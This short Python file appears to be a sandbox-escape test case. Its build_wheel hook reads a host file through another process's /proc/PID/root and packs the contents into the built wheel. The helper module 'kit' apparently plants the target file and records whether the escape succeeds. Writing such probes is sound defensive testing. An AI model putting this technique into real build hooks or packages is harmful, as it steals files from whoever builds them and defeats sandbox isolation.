"""Opens a file of the host by way of another process's root directory.

The path contains no link that the sandbox's own root could stop: the kernel resolves
/proc/PID/root straight into the other mount namespace.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("traverse"):
        root = f"/proc/{kit.find('outsider')}/root"
        with open(root + kit.plant("records").path, "rb") as records:
            loot["data.bin"] = records.read()
    return kit.wheel(wheel_directory, loot)
